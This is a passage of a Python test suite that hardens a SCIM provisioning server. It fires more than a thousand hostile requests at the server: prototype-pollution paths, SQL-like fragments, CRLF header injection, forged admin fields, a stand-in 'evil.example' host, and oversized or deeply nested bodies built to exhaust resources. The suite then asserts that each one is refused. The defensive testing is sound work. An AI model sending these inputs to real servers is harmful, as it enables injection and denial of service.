    target.withstand(PATCH_ATTACKS)


@pytest.mark.parametrize("path", ["__proto__", "__class__.__init__", "a.b.c", "toString.x", "name.__class__"])
def test_a_path_is_resolved_through_the_schema_only(scim, barbara, path):
    answer = scim.patch(f"/Users/{barbara['id']}", {"op": "replace", "path": path, "value": "x"})
    assert (answer.status_code, answer.json["scimType"]) == (400, "invalidPath")
    assert scim.get(f"/Users/{barbara['id']}").json == barbara


def test_a_patch_that_is_not_understood_changes_nothing(scim, barbara):
    for body in NO_OPERATIONS:
        answer = scim.call("PATCH", f"/Users/{barbara['id']}", body)
        assert answer.status_code in (400, 413), str(body)[:200]
    assert scim.get(f"/Users/{barbara['id']}").json == barbara


# parameters

NUMBERS_GIVEN = [
    "٣",
    "1_000",
    " 5 ",
    "1e3",
    "-1",
    "0",
    "+5",
    "10.5",
    "x",
    "5;",
    "0x10",
    "--5",
    "",
    "null",
    "\x00",
    "²",
]
NUMBERS_GIVEN += [
    str(10**30),
    str(-(10**30)),
    "9" * 5_000,
    "-" + "9" * 5_000,
    str(2**63),
    str(-(2**63) - 1),
    "٣٣",
    "1 ",
]
OTHER_PARAMETERS = {
    "sortBy": [
        "nothing",
        "name",
        "emails",
        "emails.value",
        "password",
        "members",
        "groups",
        "id",
        "meta",
        "schemas",
    ]
    + ["meta.version", "userName, title", "userName desc", "1", "__class__", "x" * 100_000, "\x00", "(select 1)"],
    "sortOrder": ["up", "DESCENDING", "", "1", "descending; --", "\x00"],
    "attributes": [
        "",
        ",",
        ",,,",
        "nothing",
        "password",
        "*",
        "id,id,id",
        "x" * 100_000,
        "emails[type eq",
        "__class__",
    ]
    + ["userName," * 20_000, "name.givenName.x", "\x00"],
    "excludedAttributes": ["", "id", "schemas,id", "userName", "*", "nothing", "meta", "password", "x," * 20_000],
    "cursor": ["x", "a.b.c", "W10.x", "\x00", "é", "x" * 100_000, "eyJhIjoxfQ.AAAA", "=", "null", "5"],
    "nothing": ["x"],
}
NO_VALUES = [5.5, 1e300, True, {}, {"a": 1}, [1], [[]], [None], -1, 10**18, None]
PARAMETER_ATTACKS = [
    Attack("GET", f"/scim/v2{path}?{name}={percent(value)}")
    for path in ("/Users", "/Groups", "/")
    for name, values in {"startIndex": NUMBERS_GIVEN, "count": NUMBERS_GIVEN, **OTHER_PARAMETERS}.items()
    for value in values
]
PARAMETER_ATTACKS += [
    json_attack("POST", "/scim/v2/Users/.search", {name: value})
    for name in ("startIndex", "count", "filter", *OTHER_PARAMETERS)
    for value in NO_VALUES
]
PARAMETER_ATTACKS += [
    Attack("POST", "/scim/v2/Users/.search", b'{"%s": %s}' % (name, value))
    for name in (b"startIndex", b"count")
    for value in NUMBERS
]
PARAMETER_ATTACKS += [
    Attack("GET", path)
    for path in (
        "/scim/v2/Users?count=5&count=x",
        "/scim/v2/Users?&&&&====",
        "/scim/v2/Users?" + "x=1&" * 20_000,
        "/scim/v2/Users?%ff=%ff",
        "/scim/v2/Users?filter=%ff%fe",
        "/scim/v2/Users?attributes=userName&excludedAttributes=userName",
        "/scim/v2/Users?sortBy=userName&cursor=",
        "/scim/v2/Users?cursor=&startIndex=5",
        "/scim/v2/Users/{user}?attributes=password",
        "/scim/v2/Users/{user}?attributes=__class__",
        "/scim/v2/?sortBy=userName&startIndex=9000000&count=10",
        "/scim/v2/Schemas?filter=id%20eq%20%22x%22",
    )
]


def test_hostile_parameters(target):
    target.withstand(PARAMETER_ATTACKS)


@pytest.mark.parametrize("name", ["startIndex", "count"])
@pytest.mark.parametrize("value", ["٣", "1_000", " 5 ", "1e3", "10.5", "²", "0x10", "9" * 5_000])
def test_a_number_is_ascii_digits_or_refused(scim, barbara, name, value):
    answer = scim.get(f"/Users?{name}={percent(value)}")
    assert (answer.status_code, answer.json["scimType"]) == (400, "invalidValue")


TAGS = ["x", "*", '""', '"', 'W/"', "W/", '"1', '"1"', 'W/"1"x', 'w/"1"', ",", ",,,", "*, *", "é", '"é"', "'1'"]
TAGS += ['"' * 999, '"a", ' * 2_000, "W/" * 5_000, '"\\"', "\x01"]
TAG_ATTACKS = [
    Attack(method, path, None if method == "GET" else body, {"Content-Type": SCIM_JSON, header: tag})
    for tag in TAGS
    for header in ("If-Match", "If-None-Match")
    for method, path, body in (
        ("GET", "/scim/v2/Users/{user}", None),
        ("PATCH", "/scim/v2/Users/{user}", b'{"Operations": [{"op": "add", "path": "title", "value": "x"}]}'),
        ("PUT", "/scim/v2/Groups/{group}", b'{"displayName": "Tour Guides"}'),
    )
]


def test_hostile_etags(target):
    target.withstand(TAG_ATTACKS)


@pytest.mark.parametrize("tag", ["x", '"x"', 'W/"', "W/", '"', "'1'", '"é"'])
def test_a_strange_if_match_matches_nothing(scim, barbara, tag):
    answer = scim.patch(
        f"/Users/{barbara['id']}", {"op": "add", "path": "title", "value": "x"}, headers={"If-Match": tag}
    )
    assert answer.status_code in (400, 412)
    assert scim.get(f"/Users/{barbara['id']}").json["title"] == "Tour Guide"


# Bulk

NEW = {"method": "POST", "path": "/Users", "bulkId": "a", "data": {"userName": "mallory"}}
BULK_BODIES = [
    {},
    {"Operations": None},
    {"Operations": {}},
    {"Operations": [None]},
    {"Operations": ["x"]},
    {"Operations": [NEW] * 1_001},
    {"schemas": "x", "Operations": [NEW]},
    {"schemas": [{}], "Operations": [NEW]},
    {"failOnErrors": "1", "Operations": [NEW]},
    {"failOnErrors": 0, "Operations": [NEW]},
    {"failOnErrors": -1, "Operations": [NEW]},
    {"failOnErrors": True, "Operations": [NEW]},
    {"failOnErrors": 1.5, "Operations": [NEW]},
    {"failOnErrors": {}, "Operations": [NEW]},
]
BULK_OPERATIONS = [
    {},
    {"method": "GET", "path": "/Users"},
    {"method": None, "path": "/Users"},
    {"method": ["POST"], "path": "/Users"},
    {"method": {}, "path": {}},
    {"method": "TRACE", "path": "/Users"},
    {"method": "__class__", "path": "/Users"},
    NEW | {"bulkId": None},
    NEW | {"bulkId": ""},
    NEW | {"bulkId": 5},
    NEW | {"bulkId": {}},
    NEW | {"data": None},
    NEW | {"data": "x"},
    NEW | {"data": []},
    NEW | {"data": {}},
    NEW | {"data": {"userName": 5}},
    NEW | {"data": {"userName": "mallory", "emails": [{"value": "bulkId:nothing"}]}},
    NEW | {"path": "Users"},
    NEW | {"path": ""},
    NEW | {"path": "/"},
    NEW | {"path": "//"},
    NEW | {"path": "/Users/x"},
    NEW | {"path": "/Bulk"},
    NEW | {"path": "/Me"},
    NEW | {"path": "/Schemas"},
    NEW | {"path": "/../Users"},
    NEW | {"path": "/scim/v2/Users"},
    NEW | {"path": "http://evil.example/Users"},
    NEW | {"path": "/Users?x=1"},
    NEW | {"path": 5},
    NEW | {"path": "/" * 100_000},
    {"method": "PUT", "path": "/Users/x", "data": {"userName": "mallory"}},
    {"method": "PUT", "path": "/Users", "data": {"userName": "mallory"}},
    {"method": "PUT", "path": "/Users/bulkId:nothing", "data": {"userName": "mallory"}},
    {"method": "PATCH", "path": "/Users/x", "data": {"Operations": []}},
    {"method": "PATCH", "path": "/Users/\x00", "data": {"Operations": []}},
    {"method": "PATCH", "path": "/Users/x\r\nX-Evil: 1", "data": {"Operations": []}},
    {"method": "DELETE", "path": "/Users"},
    {"method": "DELETE", "path": "/Users/"},
    {"method": "DELETE", "path": "/Users/*"},
    {"method": "DELETE", "path": "/Users/x/y"},
    {"method": "DELETE", "path": "/Groups/bulkId:"},
    {"method": "DELETE", "path": "/Users/x", "version": {}},
    {"method": "DELETE", "path": "/Users/x", "version": "W/"},
    {"method": "POST", "path": "/Groups", "bulkId": "g", "data": {"displayName": "g", "members": [{"value": "x"}]}},
    {"method": "POST", "path": "/Groups", "bulkId": "g", "data": {"displayName": "g", "members": {"value": {}}}},
]
BULK_ATTACKS = [json_attack("POST", "/scim/v2/Bulk", body) for body in BULK_BODIES]
BULK_ATTACKS += [json_attack("POST", "/scim/v2/Bulk", {"Operations": [operation]}) for operation in BULK_OPERATIONS]
BULK_ATTACKS += [  # names itself; and two that name one another
    json_attack(
        "POST",
        "/scim/v2/Bulk",
        {"Operations": [NEW | {"data": {"userName": "x", "roles": [{"value": "bulkId:a"}]}}]},
    ),
    json_attack(
        "POST",
        "/scim/v2/Bulk",
        {
            "Operations": [
                NEW | {"data": {"userName": "x", "roles": [{"value": "bulkId:b"}]}},
                NEW | {"bulkId": "b", "data": {"userName": "y", "roles": [{"value": "bulkId:a"}]}},
            ]
        },
    ),
]


def test_hostile_bulk_requests(target):
    target.withstand(BULK_ATTACKS)


def test_a_bad_bulk_operation_is_answered_as_an_error_and_changes_nothing(target):
    before = target.content()
    for operation in BULK_OPERATIONS:
        answer = target.send(json_attack("POST", "/scim/v2/Bulk", {"Operations": [operation]}))
        [result] = answer.json["Operations"]
        assert result["status"] in ("400", "404", "405", "409", "412"), operation
        assert result["response"]["status"] == result["status"], operation
        assert target.content() == before, operation


# what a client may not choose

FORGED = {
    "id": "1",
    "pk": 1,
    "version": 99,
    "source": "local",
    "created": "2001-01-01T00:00:00Z",
    "user_name_key": "admin",
    "document": "{}",
    "groups": [{"value": "1", "display": "Administrators"}],
    "meta": {"version": 'W/"99"', "created": "2001-01-01T00:00:00Z", "location": "https://evil.example/"},
    "role": "administrator",
    "is_admin": True,
}


def test_a_client_chooses_no_id_meta_groups_or_column(scim):
    user = scim.post("/Users", {"userName": "mallory"} | FORGED).json
    assert user["id"] != "1" and "groups" not in user
    assert user["meta"]["created"] > "2026" and user["meta"]["location"].startswith(
        "http://localhost/scim/v2/Users/"
    )
    assert not user.keys() & {"pk", "version", "source", "created", "document", "role", "is_admin"}
    assert scim.get("/Users/1").status_code == 404


@pytest.mark.parametrize("method", ["PUT", "PATCH"])
def test_a_change_cannot_forge_them_either(scim, barbara, method):
    kept = {name: barbara[name] for name in barbara.keys() - {"meta"}}
    body = kept | FORGED if method == "PUT" else {"Operations": [{"op": "replace", "value": FORGED}]}
    assert scim.call(method, f"/Users/{barbara['id']}", body).status_code == 200
    assert scim.get(f"/Users/{barbara['id']}").json == barbara


@pytest.mark.parametrize("external_id", ["1", "0", "admin", "-1"])
def test_an_external_id_is_never_an_id(scim, barbara, external_id):
    user = scim.post("/Users", {"userName": "mallory", "externalId": external_id}).json
    assert user["id"] not in (external_id, barbara["id"])
    assert scim.get(f"/Users/{external_id}").status_code == 404


# random bodies


def random_json(chance, depth=4):
    kinds = 7 if depth else 5
    kind = chance.randrange(kinds)
    if kind == 0:
        return chance.choice([None, True, False, 0, -1, 1.5, 2**53, 1e300, "", "x", "true", "\x01", "é", "😀" * 50])
    if kind == 1:
        return chance.choice(INJECTIONS)
    if kind == 2:
        return chance.choice([*BROKEN_FILTERS, *ODD_FILTERS])
    if kind == 3:
        return chance.choice(PATCH_PATHS[:60])
    if kind == 4:
        return "".join(chr(chance.choice([chance.randrange(0x80), chance.randrange(0xD800)])) for _ in range(20))
    if kind == 5:
        return [random_json(chance, depth - 1) for _ in range(chance.randrange(4))]
    return random_object(chance, depth - 1)


NAMES = [a["name"] for a in definitions.USER_SCHEMA["attributes"]]
NAMES += [
    "schemas",
    "id",
    "meta",
    "members",
    "value",
    "type",
    "primary",
    "op",
    "path",
    "Operations",
    "filter",
    "count",
]
NAMES += [
    "method",
    "bulkId",
    "data",
    "failOnErrors",
    "sortBy",
    "attributes",
    ENTERPRISE,
    CUSTOM,
    "givenName",
    "custInt",
]


def random_object(chance, depth):
    return {chance.choice(NAMES): random_json(chance, depth) for _ in range(chance.randrange(6))}


def random_bytes(chance, body):
    """Spoil a few bytes of a JSON text."""
    data = bytearray(json.dumps(body).encode())
    for _ in range(chance.randrange(3)):
        data[chance.randrange(len(data))] = chance.randrange(256)
    return bytes(data)


def random_attacks(number, seed):
    chance = random.Random(seed)
    for _ in range(number):
        method, path = chance.choice(WHERE_TO)
        body = {"userName": f"user{chance.randrange(50)}", "displayName": "g"} | random_object(chance, 3)
        if method == "PATCH" and chance.random() < 0.8:
            op, named = chance.choice(["add", "remove", "replace"]), chance.choice([*PATCH_PATHS[:60], *NAMES])
            body = {"Operations": [{"op": op, "path": named, "value": random_json(chance)}]}
        if path.endswith("Bulk"):
            body = {"Operations": [NEW | random_object(chance, 3) for _ in range(chance.randrange(1, 4))]}
        yield Attack(method, path, random_bytes(chance, body))


def test_random_bodies(target):
    target.withstand(random_attacks(600, seed=7644))


def test_these_are_more_than_1100_hostile_requests():
    fixed = [BODY_ATTACKS, VALUE_ATTACKS, INJECTION_ATTACKS, PATH_ATTACKS, METHOD_ATTACKS, PATCH_ATTACKS]
    fixed += [PARAMETER_ATTACKS, TAG_ATTACKS, BULK_ATTACKS]
    assert sum(map(len, fixed)) > 1100


# strings come back as they were

STRINGS = [
    "plain",
    "Ångström",
    "Zoë",
    "Σίσυφος",
    "Ӂуравль",
    "שלום",
    "مرحبا",
    "नमस्ते",
    "ไทย",
    "漢字",
    "かな",
    "한국어",
    "ﬁ ligature",
    "ｆｕｌｌ",
    "①②③",
    "½",
    "ß",
    "ſ",
    "ı",
    "İ",
    "K",
    "a\u0301\u0316",
    "🙂",
    "👩‍👩‍👧‍👦",
    "🏳️‍🌈",
    "\U0001f600\U0010fffd",
    "\ufffd",
    "\uffff",
    "\U0010ffff",
    "\ue000",
    "100%",
    "%",
    "%%",
    "_",
    "a_b",
    "\\",
    "\\\\",
    "\\n",
    "\\u0041",
    '"',
    '""',
    "'",
    "''",
    "`",
    "a'b",
    'a"b',
    "a%'b",
    "[a-z]",
    "*",
    "?",
    "#",
    "&amp;",
    "<b>",
    "<!-- x -->",
    "{{7*7}}",
    "${x}",
    "{0}",
    "null",
    "true",
    "0",
    "007",
    "1e3",
    "-1",
    "NaN",
    "a b",
    "a  b",
    " leading",
    "trailing ",
    "a/b",
    "a:b",
    "a;b",
    "a,b",
    "a@b.example",
    "(a)",
    "=1+1",
    "rc_",
    "x" * 1_000,
    "é" * 1_000,
    "a\u00a0b",
    "a\u2003b",
    "~",
    "|",
    "^",
    "not (x pr)",
]
CONTROLS = [
    "a\tb",
    "a\nb",
    "a\r\nb",
    "a\x01b",
    "a\x1bb",
    "a\x7fb",
    "a\x85b",
    "a\u200bb",
    "a\u202eb",
    "a\u2028b",
    "\ufeffa",
]


@pytest.mark.parametrize("path", ["title", "nickName", "name.familyName", "displayName"])
def test_a_string_comes_back_and_is_found_as_it_was(scim, make_user, path):
    head, _, tail = path.partition(".")
    for number, text in enumerate(STRINGS + CONTROLS):
        user = make_user(f"user{number}", **{head: {tail: text} if tail else text})
        kept = scim.get(f"/Users/{user['id']}").json[head]
        assert (kept[tail] if tail else kept) == text
        found = scim.find("Users", f"{path} eq {quoted(text)}")
        assert user["id"] in [u["id"] for u in found]
        assert len(found) == 1, text


def test_a_user_name_comes_back_and_is_found_as_it_was(scim, make_user):
    for text in STRINGS:
        user = make_user(text)
        assert scim.get(f"/Users/{user['id']}").json["userName"] == text
        assert [u["id"] for u in scim.find("Users", f"userName eq {quoted(text)}")] == [user["id"]], text
        scim.delete(f"/Users/{user['id']}")  # the next one may differ by letter case or width only


def test_a_group_name_comes_back_and_is_found_as_it_was(scim, make_group):
    for text in STRINGS:
        group = make_group(text)
        assert scim.get(f"/Groups/{group['id']}").json["displayName"] == text
        assert [g["id"] for g in scim.find("Groups", f"displayName eq {quoted(text)}")] == [group["id"]], text
        scim.delete(f"/Groups/{group['id']}")


@pytest.mark.parametrize("endpoint, name", [("Users", "userName"), ("Groups", "displayName")])
def test_a_name_with_control_characters_is_refused(scim, endpoint, name):
    for text in [*CONTROLS, "a\x00b"]:
        answer = scim.post(f"/{endpoint}", {name: text})
        assert (answer.status_code, answer.json["scimType"]) == (400, "invalidValue"), ascii(text)
    assert scim.get(f"/{endpoint}").json["totalResults"] == 0


LITERAL = [
    "a%b",
    "a_b",
    "a\\b",
    "a'b",
    'a"b',
    "axb",
    "%",
    "_",
    "\\",
    "'",
    '"',
    "a%",
    "%b",
    "ab",
    "A_B c",
    "x*y",
    "x?y",
]
MEANING = {
    "eq": lambda text, wanted: text == wanted,
    "ne": lambda text, wanted: text != wanted,
    "co": lambda text, wanted: wanted in text,
    "sw": str.startswith,
    "ew": str.endswith,
    "gt": lambda text, wanted: text > wanted,
    "ge": lambda text, wanted: text >= wanted,
    "lt": lambda text, wanted: text < wanted,
    "le": lambda text, wanted: text <= wanted,
}


@pytest.mark.parametrize(
    "path", ["title", "userName", "displayName", "emails.value", 'emails[type eq "work"].value']
)
@pytest.mark.parametrize("op", MEANING)
def test_no_character_is_a_wildcard(scim, make_user, path, op):
    for text in LITERAL:
        make_user(text, title=text, displayName=text, emails=[{"type": "work", "value": text}])
    for wanted in LITERAL:
        found = {user["userName"] for user in scim.find("Users", f"{path} {op} {quoted(wanted)}")}
        assert found == {text for text in LITERAL if MEANING[op](text.lower(), wanted.lower())}, wanted


@pytest.mark.parametrize("op", ["eq", "ne", "co", "sw", "ew"])
def test_no_character_is_a_wildcard_in_names_of_groups(scim, make_group, op):
    for text in LITERAL:
        make_group(text)
    for wanted in LITERAL:
        found = {group["displayName"] for group in scim.find("Groups", f"displayName {op} {quoted(wanted)}")}
        assert found == {text for text in LITERAL if MEANING[op](text.lower(), wanted.lower())}, wanted


# over a real connection

MEGABYTE = 2**20


def worker_of(server):
    """Return the pid of the process that answers: the server's youngest child."""
    children = subprocess.run(
        ["ps", "-o", "pid=", "--ppid", str(server.process.pid)], capture_output=True, text=True, check=True
    )
    return max(map(int, children.stdout.split()))


def peak_memory(pid):
    """Return the most bytes that a process ever had in memory."""
    with open(f"/proc/{pid}/status") as status:
        [line] = [line for line in status if line.startswith("VmHWM")]
    return int(line.split()[1]) * 1024


def request_head(server, lines):
    head = [
        "POST /scim/v2/Users HTTP/1.1",
        f"Host: 127.0.0.1:{server.port}",
        f"Authorization: Bearer {server.token}",
    ]
    return "\r\n".join([*head, f"Content-Type: {SCIM_JSON}", *lines, "", ""]).encode()


def answer_to(server, head, parts=()):
    """Send a request in parts, for as long as the server listens, and return (status, headers, body)."""
    with socket.create_connection(("127.0.0.1", server.port), timeout=30) as connection:
        connection.sendall(head)
        try:
            for part in parts:
                connection.sendall(part)
        except (BrokenPipeError, ConnectionResetError):
            pass
        answer = http.client.HTTPResponse(connection)
        answer.begin()
        return answer.status, answer.headers, answer.read()


@pytest.mark.parametrize("is_chunked", [False, True], ids=["declared", "chunked"])
def test_a_body_of_64_mb_is_refused_without_memory(server, is_chunked):
    session = server.session()
    for number in range(20):
        session.post(f"{server.base_url}/Users", data=json.dumps({"userName": f"user{number}"}))
    worker = worker_of(server)
    before = peak_memory(worker)
    part = b" " * MEGABYTE
    if is_chunked:
        head = request_head(server, ["Transfer-Encoding: chunked"])
        parts = [b"%x\r\n%s\r\n" % (len(part), part)] * 64 + [b"0\r\n\r\n"]
    else:
        head, parts = request_head(server, [f"Content-Length: {64 * MEGABYTE}"]), [part] * 64
    status, headers, body = answer_to(server, head, parts)
    assert (status, headers["Content-Type"]) == (413, SCIM_JSON)
    assert orjson.loads(body)["status"] == "413"
    assert peak_memory(worker) - before < 32 * MEGABYTE
    assert session.get(f"{server.base_url}/Users?count=0").json()["totalResults"] == 20


def test_a_length_that_is_none_ends_no_server(server):
    for length in ("abc", "-1", "9" * 30, "9" * 5_000, "1e3", "5, 6"):
        status, _, body = answer_to(
            server, request_head(server, [f"Content-Length: {length}", "Connection: close"])
        )
        assert 400 <= status < 500, length
        assert b"Traceback" not in body
    assert server.session().get(f"{server.base_url}/Users").json()["totalResults"] == 0


def test_a_line_break_in_a_path_splits_no_response(server):
    for path in ("/scim/v2/Users/%0d%0aX-Evil:1", "/scim/v2/%0d%0aX-Evil:%201", "/%0d%0aX-Evil:1"):
        for method in ("GET", "DELETE", "PUT", "POST"):
            head = f"{method} {path} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {server.token}\r\n"
            head += "Content-Length: 0\r\nConnection: close\r\n\r\n"
            status, headers, _ = answer_to(server, head.encode())
            assert 400 <= status < 500, (method, path)
            assert "X-Evil" not in headers, (method, path)


# what would take time that grows with the square of its length, or more levels than Python goes down


@pytest.mark.parametrize("levels", [64, 300, 600, 1_000])
@pytest.mark.parametrize(
    "method, path, body",
    [
        ("POST", "/Users", '{"userName": "p", "foo": %s}'),
        ("POST", "/Users", '{"userName": "p", "password": "x", "foo": %s}'),
        ("POST", "/Users/.search", '{"filter": %s}'),
        ("PATCH", "/Users/{user}", '{"Operations": [{"op": "replace", "value": {"foo": %s}}]}'),
        ("PATCH", "/Users/{user}", f'{{"Operations": [{{"op": "add", "value": {{"{definitions.USER}": %s}}}}]}}'),
        (
            "POST",
            "/Bulk",
            '{"Operations": [{"method": "POST", "path": "/Users", "bulkId": "a", "data": {"foo": %s}}]}',
        ),
    ],
)
@pytest.mark.parametrize("pair", [("[", "]"), ('{"x":', "}"), (f'{{"{definitions.USER}":', "}")])
def test_what_is_nested_too_deep_is_refused(target, method, path, body, levels, pair):
    target.withstand([Attack(method, f"/scim/v2{path}", (body % nest(levels, *pair)).encode())])
    assert target.answer.status_code == 400 and target.answer.json["scimType"] == "invalidSyntax"


def test_what_is_nested_as_deep_as_may_be_is_taken(target):
    body = f'{{"userName": "p", "password": "x", "foo": {nest(62)}}}'
    target.withstand([Attack("POST", "/scim/v2/Users", body.encode())])
    assert target.answer.status_code == 201


MARKS = "a" + "\u0301\u0323" * 30_000


@pytest.mark.parametrize("length", [1, 50_000])
def test_no_word_is_looked_at_again_and_again(target, length):
    runs = ["passw" * 12_000, ("passw" * 100 + "!" * length) * 2, '"' * 60_000, "rc_" * 20_000, '\\"' * 30_000]
    for run in runs:
        data = orjson.dumps({"userName": "ada", "title": run, "password": "x"})
        target.withstand(
            [
                Attack("GET", f"/scim/v2/{run[:60_000]}", headers={"Authorization": ""}),
                Attack("GET", f"/scim/v2/Users?filter={run[:60_000]}"),
                Attack("POST", "/scim/v2/Users", data),
                Attack("PUT", "/scim/v2/Users/{user}", data),
            ]
        )


@pytest.mark.parametrize("name", ["title", "displayName", "userName"])
def test_many_marks_on_one_letter_are_no_work(target, name):
    data = orjson.dumps({"userName": "ada", name: MARKS})
    condition = orjson.dumps({"filter": f'{name} eq "{MARKS[:9_000]}"'})
    target.withstand([Attack("POST", "/scim/v2/Users", data), Attack("POST", "/scim/v2/Users/.search", condition)])


def test_many_operations_on_one_attribute_are_no_work(target):
    operations = [{"op": "add", "path": "emails", "value": [{"value": f"a{n}@example.com"}]} for n in range(8_000)]
    data = orjson.dumps({"schemas": [PATCH_OP], "Operations": operations})
    target.withstand([Attack("PATCH", "/scim/v2/Users/{user}", data)])
    assert target.answer.status_code == 400 and "at most 1000 values" in target.answer.json["detail"]


@pytest.mark.parametrize("op", ["add", "replace"])
@pytest.mark.parametrize(
    "name",
    [
        "members.value",
        "members.type",
        "members.$ref",
        'members[value eq "1"].value',
        f"{definitions.GROUP}:members.value",
    ],
)
def test_a_part_of_a_member_is_not_changed_without_a_path_either(target, op, name):
    data = orjson.dumps({"Operations": [{"op": op, "value": {name: target.user["id"]}}]})
    target.withstand([Attack("PATCH", "/scim/v2/Groups/{group}", data)])
    assert target.answer.status_code == 400


@pytest.fixture
def much(target):
    """The target, whose user has as many e-mail addresses as may be."""
    emails = [{"value": f"a{n}@example.com", "display": f"d{n}"} for n in range(1_000)]
    data = orjson.dumps({"userName": "bjensen@example.com", "emails": emails})
    target.withstand([Attack("PUT", "/scim/v2/Users/{user}", data)])
    assert target.answer.status_code == 200
    return target


@pytest.mark.parametrize("name", ["value", "display"])
def test_many_values_that_are_removed_are_no_work(much, name):
    values = [{name: f"x{n}"} for n in range(1_000)]
    operations = [{"op": "remove", "path": "emails", "value": values} for _ in range(20)]
    much.withstand([Attack("PATCH", "/scim/v2/Users/{user}", orjson.dumps({"Operations": operations}))])
    assert much.answer.status_code == 200 and len(much.answer.json["emails"]) == 1_000


def test_many_looks_at_many_values_are_refused(much):
    path = 'emails[value sw "a0@" or type eq "work"].display'
    operations = [{"op": "replace", "path": path, "value": "x"} for _ in range(5_000)]
    much.withstand([Attack("PATCH", "/scim/v2/Users/{user}", orjson.dumps({"Operations": operations}))])
    assert much.answer.status_code == 413


def test_a_body_of_very_many_parts_is_refused(target):
    data = b'{"userName": "p", "password": "x", "foo": [' + b"{}," * 600_000 + b"{}]}"
    target.withstand([Attack("POST", "/scim/v2/Users", data)])
    assert target.answer.status_code == 413


def test_many_filters_on_members_are_refused(target):
    operations = [{"op": "remove", "path": 'members[value co "zz"]'} for _ in range(200)]
    target.withstand([Attack("PATCH", "/scim/v2/Groups/{group}", orjson.dumps({"Operations": operations[:100]}))])
    assert target.answer.status_code == 200
    target.withstand([Attack("PATCH", "/scim/v2/Groups/{group}", orjson.dumps({"Operations": operations}))])
    assert target.answer.status_code == 413
